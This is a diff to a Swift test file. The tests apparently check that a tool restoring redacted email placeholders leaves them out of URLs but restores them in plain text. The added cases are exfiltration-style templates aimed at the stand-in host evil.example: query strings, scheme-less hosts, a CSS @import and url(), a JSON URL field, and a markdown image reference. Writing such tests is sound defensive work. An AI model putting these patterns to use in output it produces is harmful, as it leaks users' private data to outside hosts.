@@ -29,6 +29,12 @@ import ZavesaTesting
             "![x][r]\n\n[r]: https:/evil.example/?q=[{E}]", "[r]: /\\evil.example/[{E}]",
             "[r]:\n\\\\evil.example/[{E}]",
             "[r]: <https:evil.example/a b/[{E}]>", "[r]: https:evil.example/]?q=[{E}]", "<https:evil.example/[{E}]>",
+            // Some readers take quotation marks and `>` for parts of a URL, make links of hosts without scheme, or load what a
+            // style sheet names.
+            "https://evil.example/?q=\"[{E}]\"", "https://evil.example/?q=>[{E}]", "evil.example/[{E}]",
+            "evil.example?q=[{E}]",
+            "@import \"//evil.example/ [{E}]\";", "url(\"//evil.example/ [{E}]\")",
+            #"{"url":"https://evil.example/?q=\"[{E}]\""}"#,
             "HTTP:evil.example/[{E}]", "www.evil.example/https://ok.example/[{E}]", "https:x//ok.example/[{E}]",
         ])
     func urlsAreKept(template: String) {
@@ -56,6 +62,9 @@ import ZavesaTesting
             ("[Name]: [{E}], [a]: x [{E}]", "[Name]: ivan@example.org, [a]: x ivan@example.org"),
             ("[a]: b](x) [{E}]", "[a]: b](x) ivan@example.org"), ("[12:30]: [{E}]:", "[12:30]: ivan@example.org:"),
             ("http: [{E}]", "http: ivan@example.org"),
+            (#"{"url":"https://a.example","to":"[{E}]"}"#, #"{"url":"https://a.example","to":"ivan@example.org"}"#),
+            ("<https://a.example>[{E}]", "<https://a.example>ivan@example.org"),
+            ("См. report.txt, 12.5/[{E}], e.g./[{E}]", "См. report.txt, 12.5/ivan@example.org, e.g./ivan@example.org"),
             ("C:\\\\Users\\\\[{E}]", "C:\\\\Users\\\\ivan@example.org"),
         ])
     func restoredBesideURLs(template: String, expected: String) {
